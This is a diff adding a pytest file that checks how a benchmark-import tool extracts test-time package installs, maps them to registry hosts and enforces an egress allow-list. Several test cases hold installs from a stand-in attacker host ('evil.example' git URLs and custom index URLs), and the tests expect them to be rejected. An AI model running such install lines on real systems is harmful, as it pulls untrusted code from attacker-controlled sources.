@@ -1,0 +1,104 @@
+"""Test-time installs of an imported Terminal-Bench task (envs/terminal/installs.py): which
+hosts each install line needs, and the import's answer with and without the operator's
+allow-list (the run through the proxy: tests/adversarial/test_test_installs.py)."""
+
+from __future__ import annotations
+
+import json
+import tomllib
+from pathlib import Path
+
+import pytest
+from pydantic import ValidationError
+from typer.testing import CliRunner
+
+from palaestra.cli.main import app
+from palaestra.envs.terminal.fields import TerminalPrivate
+from palaestra.envs.terminal.installs import CRATES_HOSTS, NPM_HOSTS, PYPI_HOSTS, take_installs
+
+FIXTURE = Path(__file__).parents[2] / "fixtures" / "terminal-bench-installs"
+runner = CliRunner()
+
+
+@pytest.mark.parametrize(
+    ("line", "requirements", "hosts", "problem"),
+    [
+        ("pip install six==1.17.0", ["six==1.17.0"], PYPI_HOSTS, None),
+        ("pip3 install -q --no-cache-dir requests>=2 numpy", ["requests>=2", "numpy"],
+         PYPI_HOSTS, None),
+        ("uv pip install --system pandas==2.2.3", ["pandas==2.2.3"], PYPI_HOSTS, None),
+        ("python3 -m pip install 'httpx[http2]==0.28.1'", ["httpx[http2]==0.28.1"],
+         PYPI_HOSTS, None),
+        ("uv add --dev hypothesis", ["hypothesis"], PYPI_HOSTS, None),
+        ("pip install -r requirements.txt", [], PYPI_HOSTS, "'-r'"),
+        ("pip install git+https://evil.example/x.git", [], PYPI_HOSTS, "by name"),
+        ("pip install --index-url https://evil.example/simple six", [], PYPI_HOSTS,
+         "'--index-url'"),
+        ("npm install lodash", [], NPM_HOSTS, "registry.npmjs.org"),
+        ("cargo add serde", [], CRATES_HOSTS, "static.crates.io"),
+        ("# pip install six", [], (), None),
+        ("python3 -m pytest tests", [], (), None),
+    ],
+)  # fmt: skip
+def test_install_lines_and_the_hosts_they_need(
+    line: str, requirements: list[str], hosts: tuple[str, ...], problem: str | None
+) -> None:
+    found = take_installs(f"#!/bin/bash\n{line}\necho done\n")
+    assert found.requirements == requirements
+    assert found.hosts == sorted(hosts)
+    assert (line in found.script) is (not hosts)  # an install line is taken out
+    if problem is None:
+        assert found.problems == []
+    else:
+        assert problem in " ".join(found.problems), found.problems
+
+
+def _import(tmp_path: Path, allow: list[str]) -> dict[str, object]:
+    config = tmp_path / "palaestra.toml"
+    config.write_text(f"egress_allow = {json.dumps(allow)}\n")
+    out = tmp_path / "pack"
+    result = runner.invoke(
+        app,
+        ["pack", "import", "terminal-bench", str(FIXTURE), str(out), "--force"],
+        env={"PALAESTRA_CONFIG": str(config)},
+        catch_exceptions=False,
+    )
+    report = json.loads((out / "import-report.json").read_text())
+    report["output"] = result.output
+    return report
+
+
+def test_refused_without_the_registries_on_the_allow_list(tmp_path: Path) -> None:
+    report = _import(tmp_path, ["deb.debian.org"])
+    assert report["imported"] == []
+    (skipped,) = report["skipped"]  # type: ignore[misc]
+    reason = " ".join(skipped["reasons"])
+    assert "files.pythonhosted.org, pypi.org" in reason and "egress_allow" in reason
+    assert report["skipped_by_reason"] == {"test-time installs (egress_allow)": 1}
+    assert "1 × test-time installs (egress_allow)" in str(report["output"])
+
+
+def test_imported_with_them_and_its_verifier_policy_recorded(tmp_path: Path) -> None:
+    report = _import(tmp_path, ["pypi.org", "*.pythonhosted.org"])
+    assert [i["id"] for i in report["imported"]] == ["pip-six"]  # type: ignore[union-attr]
+    task = tmp_path / "pack" / "tasks" / "pip-six"
+    meta = tomllib.loads((task / "task.toml").read_text())
+    assert meta["private"]["verifier_installs"] == ["six==1.17.0"]
+    assert meta["private"]["verifier_hosts"] == sorted(PYPI_HOSTS)
+    assert "allow_internet" not in meta["public"]  # the agent gets no network
+    script = (task / "verifier" / "run-tests.sh").read_text()
+    assert "pip install" not in script and "python3 -m pytest" in script
+
+
+@pytest.mark.parametrize(
+    ("fields", "message"),
+    [
+        ({"verifier_installs": ["--index-url=https://evil.example"],
+          "verifier_hosts": ["pypi.org"]}, "not a requirement by name"),
+        ({"verifier_installs": ["six"]}, "without verifier_hosts"),
+        ({"verifier_installs": ["six"], "verifier_hosts": ["*"]}, "verifier_hosts|\\*"),
+    ],
+)  # fmt: skip
+def test_a_packs_install_fields_are_checked(fields: dict[str, object], message: str) -> None:
+    with pytest.raises(ValidationError, match=message):
+        TerminalPrivate.model_validate({"verifier": {"test.sh": "true\n"}, **fields})
